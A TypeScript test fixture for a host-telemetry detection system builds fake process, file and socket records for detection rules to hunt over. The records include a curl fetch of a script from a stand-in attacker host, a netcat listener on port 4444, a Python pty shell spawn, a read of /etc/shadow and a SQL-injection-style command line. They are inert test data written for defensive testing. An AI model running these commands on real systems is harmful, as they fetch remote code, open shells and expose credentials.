import assert from 'node:assert/strict';
import { type IngestContext, ingestBatch } from '../../src/ingest/index.js';
import type { PofrRecord } from '../../src/protocol/index.js';
import type { Store } from '../../src/store/index.js';
import { addHost, endpoint, file, inventory, proc, T0, type TestHost } from '../ingest/host-fixture.js';

const S = 1_000_000;

/**
 * One host whose history the detection tests hunt over, ingested as real signed batches (so every
 * row points at the batch that recorded it): batch 1 holds the processes, batch 2 files and sockets.
 */
export async function huntFixture(
  store: Store,
  onApplied?: IngestContext['onApplied'],
): Promise<{ host: TestHost; hashes: string[] }> {
  const host = await addHost(store, { name: 'web1' });
  const hashes: string[] = [];
  const send = async (records: PofrRecord[]) => {
    const b = host.next(records);
    const r = await ingestBatch(store, b.bytes, { principal: host.hostId, onApplied });
    assert.equal(r.status, 'accepted', JSON.stringify(r));
    hashes.push(b.hash);
  };
  const at = (n: number) => T0 + n * S;
  await send([
    inventory(at(0)),
    {
      type: 'process_start',
      t: at(1),
      proc: proc(100, 5, { exe: '/usr/bin/bash', argv: ['bash'], ruid: 1000, cwd: '/home/alice' }),
    },
    {
      type: 'process_start',
      t: at(2),
      proc: proc(101, 6, {
        ppid: 100,
        parent_start_ticks: 5,
        exe: '/usr/bin/curl',
        argv: ['curl', '-s', 'http://EVIL.example/x.sh'],
        ruid: 1000,
        cwd: '/tmp',
      }),
    },
    {
      type: 'process_start',
      t: at(3),
      proc: proc(102, 7, { exe: '/usr/bin/nc', argv: ['nc', '-lvp', '4444'] }),
    },
    {
      type: 'process_start',
      t: at(4),
      proc: proc(103, 8, {
        exe: '/usr/bin/python3',
        argv: ['python3', '-c', 'import pty; pty.spawn("/bin/sh")'],
      }),
    },
    // LIKE's own wildcards in the data, and Sigma's escaped ones in a rule, must stay literal.
    { type: 'process_start', t: at(5), proc: proc(104, 9, { exe: '/tmp/x%y_z', argv: ['a*b'] }) },
    { type: 'process_start', t: at(6), proc: proc(105, 10, { exe: '/tmp/xAyBz', argv: ['aXb'] }) },
    // A hostile command line: quotes, a newline and SQL in it are data, never SQL.
    {
      type: 'process_start',
      t: at(7),
      proc: proc(106, 11, {
        exe: '/bin/sh',
        argv: ['sh', '-c', "echo '; DROP TABLE processes; --\nx"],
        cwd: null,
      }),
    },
  ]);
  await send([
    { type: 'file_open', t: at(8), file: file(101, 6, 3, '/etc/shadow') },
    { type: 'file_open', t: at(8), file: file(101, 6, 4, '/tmp/x.sh') },
    {
      type: 'endpoint_open',
      t: at(9),
      endpoint: endpoint('c1', { pid: 101, start_ticks: 6, remote_ip: '192.168.1.5' }),
    },
    {
      type: 'endpoint_open',
      t: at(9),
      endpoint: endpoint('c2', {
        pid: 101,
        start_ticks: 6,
        remote_ip: '8.8.8.8',
        remote_port: 53,
        proto: 'udp',
      }),
    },
    {
      type: 'endpoint_open',
      t: at(9),
      endpoint: endpoint('c3', {
        pid: 103,
        start_ticks: 8,
        family: 6,
        local_ip: 'fe80::2',
        remote_ip: 'fe80::1',
        remote_port: 80,
      }),
    },
    {
      type: 'endpoint_open',
      t: at(9),
      endpoint: endpoint('l1', {
        pid: 102,
        start_ticks: 7,
        local_port: 4444,
        remote_ip: '0.0.0.0',
        remote_port: 0,
        state: 'LISTEN',
      }),
    },
  ]);
  return { host, hashes };
}
